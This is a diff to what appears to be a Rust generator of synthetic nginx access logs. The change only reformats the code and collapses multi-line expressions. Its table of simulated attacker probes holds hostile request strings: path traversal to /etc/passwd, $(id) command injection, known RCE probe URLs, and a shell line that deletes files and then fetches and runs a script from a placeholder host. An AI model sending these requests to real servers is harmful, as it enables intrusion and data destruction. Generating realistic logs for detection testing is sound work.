@@ -98,11 +98,7 @@ const PROBES: &[(&str, &str, u16)] = &[
     ("GET", "/server-status", 403),
     ("GET", "/actuator/env", 404),
     ("GET", "/actuator/health", 404),
-    (
-        "POST",
-        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
-        404,
-    ),
+    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
     (
         "GET",
         "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
@@ -113,27 +109,15 @@ const PROBES: &[(&str, &str, u16)] = &[
     ("GET", "/index.php?page=../../../../../../etc/passwd", 404),
     ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
     ("POST", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", 400),
-    (
-        "GET",
-        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
-        404,
-    ),
+    ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", 404),
     ("GET", "/cgi-bin/test.cgi", 404),
-    (
-        "GET",
-        "/shell?cd+/tmp;rm+-rf+*;wget+http://loader.example.invalid/x.sh;sh+x.sh",
-        404,
-    ),
+    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://loader.example.invalid/x.sh;sh+x.sh", 404),
     ("POST", "/boaform/admin/formLogin", 404),
     ("GET", "/HNAP1/", 404),
     ("POST", "/GponForm/diag_Form?images/", 404),
     ("GET", "/solr/admin/info/system?wt=json", 404),
     ("GET", "/owa/auth/logon.aspx", 404),
-    (
-        "GET",
-        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
-        404,
-    ),
+    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404),
     ("POST", "/_ignition/execute-solution", 404),
     ("GET", "/console/", 404),
     ("GET", "/manager/html", 404),
@@ -154,15 +138,8 @@ enum Style {
 
 enum Actor {
     Spawner,
-    Visitor {
-        ip: IpAddr,
-        ua: &'static str,
-        left: u32,
-    },
-    Attacker {
-        idx: u32,
-        left: u32,
-    },
+    Visitor { ip: IpAddr, ua: &'static str, left: u32 },
+    Attacker { idx: u32, left: u32 },
 }
 
 struct Web {
@@ -200,10 +177,7 @@ fn line(
 ) {
     sink.line(
         t,
-        format!(
-            "{ip} - - [{}] \"{method} {target} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{ua}\"",
-            fmt_clf(t)
-        ),
+        format!("{ip} - - [{}] \"{method} {target} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{ua}\"", fmt_clf(t)),
     );
 }
 
@@ -233,9 +207,7 @@ impl World for Web {
                 }
                 let target = self.rate * (now - self.start) as f64;
                 let ahead = sink.generated as f64 - target;
-                let factor = (ahead / (self.rate * 3600.0).max(200.0))
-                    .exp2()
-                    .clamp(0.125, 8.0);
+                let factor = (ahead / (self.rate * 3600.0).max(200.0)).exp2().clamp(0.125, 8.0);
                 self.clock = self.clock.max(now as f64) + self.rng.exp(self.gap0 * factor);
                 Some(self.clock as i64)
             }
@@ -244,26 +216,14 @@ impl World for Web {
                 let ua: &str = ua;
                 let page = *self.rng.pick(PAGES);
                 let status = if self.rng.chance(0.9) { 200 } else { 304 };
-                let bytes = if status == 304 {
-                    0
-                } else {
-                    self.rng.range(3_000, 60_000) as u32
-                };
-                let referer = if self.rng.chance(0.5) {
-                    "https://www.stadt.example/"
-                } else {
-                    "-"
-                };
+                let bytes = if status == 304 { 0 } else { self.rng.range(3_000, 60_000) as u32 };
+                let referer = if self.rng.chance(0.5) { "https://www.stadt.example/" } else { "-" };
                 line(sink, now, ip, "GET", page, status, bytes, referer, ua);
                 if !ua.contains("bot") {
                     let n = self.rng.below(4);
                     for _ in 0..n {
                         let (asset, size) = *self.rng.pick(ASSETS);
-                        let (st, b) = if self.rng.chance(0.3) {
-                            (304, 0)
-                        } else {
-                            (200, size)
-                        };
+                        let (st, b) = if self.rng.chance(0.3) { (304, 0) } else { (200, size) };
                         line(
                             sink,
                             now + self.rng.below(2) as i64,
@@ -277,17 +237,7 @@ impl World for Web {
                         );
                     }
                     if self.rng.chance(0.02) {
-                        line(
-                            sink,
-                            now,
-                            ip,
-                            "GET",
-                            "/favicon-32x32.png",
-                            404,
-                            153,
-                            "-",
-                            ua,
-                        );
+                        line(sink, now, ip, "GET", "/favicon-32x32.png", 404, 153, "-", ua);
                     }
                 }
                 *left -= 1;
@@ -316,11 +266,8 @@ impl World for Web {
                         self.rng.range(300, 1800)
                     }
                     Style::LoginBrute => {
-                        let (target, st) = if self.rng.chance(0.7) {
-                            ("/wp-login.php", 404)
-                        } else {
-                            ("/xmlrpc.php", 404)
-                        };
+                        let (target, st) =
+                            if self.rng.chance(0.7) { ("/wp-login.php", 404) } else { ("/xmlrpc.php", 404) };
                         line(sink, now, ip, "POST", target, st, 153, "-", ua);
                         self.rng.range(0, 4)
                     }
@@ -330,13 +277,7 @@ impl World for Web {
                             "\\x00\\x00\\x00\\x01",
                             "SSH-2.0-Go",
                         ]);
-                        sink.line(
-                            now,
-                            format!(
-                                "{ip} - - [{}] \"{target}\" 400 157 \"-\" \"-\"",
-                                fmt_clf(now)
-                            ),
-                        );
+                        sink.line(now, format!("{ip} - - [{}] \"{target}\" 400 157 \"-\" \"-\"", fmt_clf(now)));
                         self.rng.range(1, 60)
                     }
                 };
@@ -348,10 +289,7 @@ impl World for Web {
 }
 
 /// Writes an nginx access log of exactly `o.lines` lines.
-pub fn generate_nginx<O: Write + ?Sized>(
-    o: &NginxOptions,
-    out: &mut O,
-) -> std::io::Result<RunStats> {
+pub fn generate_nginx<O: Write + ?Sized>(o: &NginxOptions, out: &mut O) -> std::io::Result<RunStats> {
     let mut rng = Rng::new(o.seed);
     let mut arng = rng.fork(1);
     let n = o.attackers.max(1);
@@ -376,11 +314,5 @@ pub fn generate_nginx<O: Write + ?Sized>(
         ipv6_share: o.ipv6_share,
         seed: o.seed,
     };
-    run(
-        &mut w,
-        vec![(o.start, Actor::Spawner)],
-        o.lines,
-        Stamp::None,
-        out,
-    )
+    run(&mut w, vec![(o.start, Actor::Spawner)], o.lines, Stamp::None, out)
 }
